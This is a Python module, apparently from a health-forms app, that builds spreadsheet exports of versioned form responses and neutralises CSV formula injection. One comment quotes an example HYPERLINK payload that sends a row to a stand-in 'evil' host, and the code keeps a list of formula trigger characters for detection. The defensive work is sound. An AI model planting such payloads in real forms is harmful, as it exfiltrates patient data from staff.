"""An export's table: a column per field of every version of the form, a row per response.

The columns are the union of the fields of all the form's published versions, in the
order they first appeared (version 1's fields, then those version 2 added, ...), each
headed by the label of the latest version that has it plus its id, so two fields that
share a label stay apart. A response fills the columns of the fields it answered; the
others stay empty.

Cells are what a person reads: checkbox choices joined by "; ", a consent box as Yes/No,
a signature as "signed at <time>" from the encrypted signature evidence (the image
never leaves), a score as two columns: its value (or "incomplete") and its band
(forms/scores.py; as sealed with the response, never recalculated). Every text cell is
made safe to open in a spreadsheet (`spreadsheet_text`).
"""

from __future__ import annotations

import json
import math
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from healthforms.clock import rfc3339
from healthforms.forms.models import FormVersion
from healthforms.forms.schema import LAYOUT_TYPES, FieldType
from healthforms.responses.models import ResponseRow
from healthforms.responses.service import ResponseContent

# A cell: text (already made safe) or a number (which no spreadsheet evaluates).
Cell = str | int | float

FIXED_HEADERS = (
    "Response ID",
    "Confirmation",
    "Submitted at",
    "Form version",
    "Status",
    "Unreadable",
)
UNREADABLE = "yes"  # the Unreadable column of a response that would not decrypt
CHOICE_SEPARATOR = "; "

# Formula injection (OWASP "CSV Injection"): a spreadsheet evaluates a cell that starts
# with one of these as a formula, e.g. a patient typing =HYPERLINK("https://evil/?"&A1)
# as their name exfiltrates the row when staff open the export. A leading single quote
# makes the cell plain text.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """`text` as a cell no spreadsheet evaluates: prefixed with ' when it would start a
    formula (the same for CSV and XLSX, so both files read the same)."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


@dataclass(frozen=True, slots=True)
class FieldColumn:
    field_id: str
    label: str  # the latest version's label of the field
    is_score: bool = False  # a score field: two columns, the value and the band

    @property
    def header(self) -> str:
        return f"{self.label} ({self.field_id})"

    @property
    def headers(self) -> tuple[str, ...]:
        if self.is_score:
            return (self.header, f"{self.label} band ({self.field_id})")
        return (self.header,)

    @property
    def width(self) -> int:
        return 2 if self.is_score else 1


INCOMPLETE_SCORE = "incomplete"


@dataclass(frozen=True, slots=True)
class ExportTable:
    columns: tuple[FieldColumn, ...]
    # Each version's field types by field id: a response's cells follow its own version.
    types: dict[int, dict[str, str]]

    @property
    def headers(self) -> list[Cell]:
        names = (h for c in self.columns for h in c.headers)
        return [spreadsheet_text(h) for h in (*FIXED_HEADERS, *names)]

    def row(self, row: ResponseRow, content: ResponseContent | None) -> list[Cell]:
        """The response's cells; `content` None: it would not decrypt (the Unreadable
        column says so and its answers stay empty)."""
        cells: list[Cell] = [
            spreadsheet_text(row.id),
            spreadsheet_text(row.confirmation),
            rfc3339(row.submitted_at),
            row.form_version,
            spreadsheet_text(row.review_status),
            "" if content is not None else UNREADABLE,
        ]
        if content is None:
            return cells + [""] * sum(c.width for c in self.columns)
        types = self.types.get(row.form_version, {})
        latest = self.types.get(max(self.types), {}) if self.types else {}
        for column in self.columns:
            kind = types.get(column.field_id) or latest.get(column.field_id)
            answer = content.answers.get(column.field_id)
            if column.is_score:
                cells.extend(score_cells(content.scores.get(column.field_id)))
            elif kind == FieldType.SIGNATURE.value:
                cells.append(signature_cell(answer, content.signatures.get(column.field_id)))
            elif kind == FieldType.FILE.value:
                cells.append(files_cell(answer))
            else:
                cells.append(answer_cell(answer))
        return cells


def table_of(versions: Sequence[FormVersion]) -> ExportTable:
    """The columns of a form with these published versions (any order)."""
    labels: dict[str, str] = {}  # insertion order: first seen
    scores: set[str] = set()
    types: dict[int, dict[str, str]] = {}
    for version in sorted(versions, key=lambda v: v.version):
        of_version = types.setdefault(version.version, {})
        for raw in version.fields if isinstance(version.fields, list) else []:
            field_id = raw.get("id") if isinstance(raw, dict) else None
            if not isinstance(field_id, str) or not field_id:
                continue  # a malformed definition names no column
            if raw.get("type") in LAYOUT_TYPES:
                continue  # a heading, paragraph or page break has no answer
            label = raw.get("label")
            labels[field_id] = label if isinstance(label, str) and label else field_id
            of_version[field_id] = str(raw.get("type", ""))
            if of_version[field_id] == FieldType.SCORE.value:
                scores.add(field_id)
    columns = tuple(
        FieldColumn(field_id, label, field_id in scores) for field_id, label in labels.items()
    )
    return ExportTable(columns=columns, types=types)


def answer_cell(value: Any) -> Cell:
    """A plain answer as a cell: "" when blank, numbers as numbers, choices joined."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else ""
    if isinstance(value, list):
        parts = (answer_cell(v) for v in value)
        return spreadsheet_text(CHOICE_SEPARATOR.join(str(p) for p in parts if p != ""))
    if isinstance(value, dict):  # no field type answers with one; shown, never dropped
        return spreadsheet_text(json.dumps(value, ensure_ascii=False, sort_keys=True))
    return spreadsheet_text(str(value))


def files_cell(answer: Any) -> str:
    """A file answer as a cell: how many files (they are read on the response page and
    printed in its PDF; an export carries no file, nor the ids that fetch one)."""
    count = len(answer) if isinstance(answer, list) else 0
    return f"{count} file{'s' if count != 1 else ''} attached" if count else ""


def score_cells(stored: Any) -> tuple[Cell, Cell]:
    """A stored score result as (value, band): the number, or "incomplete" when an item
    was unanswered; "" for a response without that score (another version)."""
    if not isinstance(stored, dict):
        return "", ""
    value, band = stored.get("value"), stored.get("band")
    band_cell = spreadsheet_text(band) if isinstance(band, str) else ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        return INCOMPLETE_SCORE, band_cell
    return answer_cell(value), band_cell


def signature_cell(answer: Any, evidence: Any) -> str:
    """ "signed at <RFC 3339>" from the signature's evidence; never the image itself."""
    if answer in (None, "", False):
        return ""
    signed_at = evidence.get("signedAt") if isinstance(evidence, dict) else None
    if isinstance(signed_at, str) and signed_at:
        return spreadsheet_text(f"signed at {signed_at}")
    return "signed"  # an image without evidence (an older response): say it is there
